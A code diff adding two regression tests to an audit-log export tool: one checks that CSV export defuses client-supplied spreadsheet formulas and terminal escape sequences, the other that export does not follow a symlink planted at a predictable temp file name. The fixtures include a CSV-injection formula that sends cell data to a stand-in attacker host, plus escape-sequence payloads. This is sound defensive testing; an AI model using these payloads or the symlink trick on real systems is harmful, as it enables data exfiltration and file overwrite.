@@ -120,3 +120,48 @@ def test_the_daemon_purges_old_rows_on_its_schedule_and_keeps_new_ones(daemons, 
         wait_until(lambda: db.execute("SELECT COUNT(*) FROM audit").fetchone()[0] == 1, 30, what="the new row kept")
     finally:
         db.close()
+
+
+def test_a_csv_export_neither_runs_a_clients_formula_in_a_spreadsheet_nor_its_escapes_in_a_terminal(tmp_path):
+    """What a client sent (its model name, X-Request-Id, prompt) is in the audit rows: in
+    CSV a cell starting with = + - @ is a spreadsheet formula (OWASP's CSV injection) and
+    an escape sequence is obeyed by the terminal the export is printed to. JSON lines
+    keep every value exactly (JSON escapes them)."""
+    cfg = tmp_path / "appliance.toml"
+    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
+    db = connect(path_in(tmp_path / "state"))
+    formula, prompt = '=HYPERLINK("http://evil.example/?"&A1)', "\x1b]0;PWNED\x07hi\r\nthere\x9b2J"
+    db.execute(f"INSERT INTO audit ({', '.join(COLUMNS)}) VALUES ({', '.join('?' * len(COLUMNS))})",
+               (NOW, "@SUM(1+1)", None, None, formula, "chat", None, 404, None, None, 1.0, None, None, prompt, None))
+    db.commit()
+    out = _export(cfg, "--format", "csv")
+    assert out.returncode == 0, out.stderr
+    assert "\x1b" not in out.stdout and "\x9b" not in out.stdout
+    row = next(csv.DictReader(io.StringIO(out.stdout)))
+    assert row["model"] == "'" + formula and row["request_id"] == "'@SUM(1+1)"
+    assert row["request_text"] == "\\x1b]0;PWNED\\x07hi\\x0d\nthere\\x9b2J"
+    assert row["status"] == "404" and row["key_id"] == ""
+    exact = json.loads(_export(cfg).stdout)
+    assert exact["model"] == formula and exact["request_text"] == prompt
+
+
+def test_an_export_into_a_shared_directory_writes_through_no_link_a_local_user_planted(tmp_path):
+    """-o /tmp/audit.csv wrote /tmp/.audit.csv.partial, a name known in advance: a local
+    user's link there made the export (run as root) overwrite the file it points to. The
+    file appears whole, readable by its owner only (audit rows are not for everyone)."""
+    cfg = tmp_path / "appliance.toml"
+    cfg.write_text(f'[paths]\nstate_dir = "{tmp_path}/state"\n')
+    db = connect(path_in(tmp_path / "state"))
+    _fill(db, [NOW])
+    shared = tmp_path / "shared"
+    shared.mkdir(mode=0o1777)
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    (shared / ".audit.csv.partial").symlink_to(victim)
+    out = _export(cfg, "--format", "csv", "-o", str(shared / "audit.csv"))
+    assert out.returncode == 0, out.stderr
+    assert victim.read_text() == "precious\n"
+    written = shared / "audit.csv"
+    assert not written.is_symlink() and "req-0" in written.read_text()
+    assert written.stat().st_mode & 0o777 == 0o600
+    assert sorted(p.name for p in shared.iterdir()) == [".audit.csv.partial", "audit.csv"]  # nothing else left
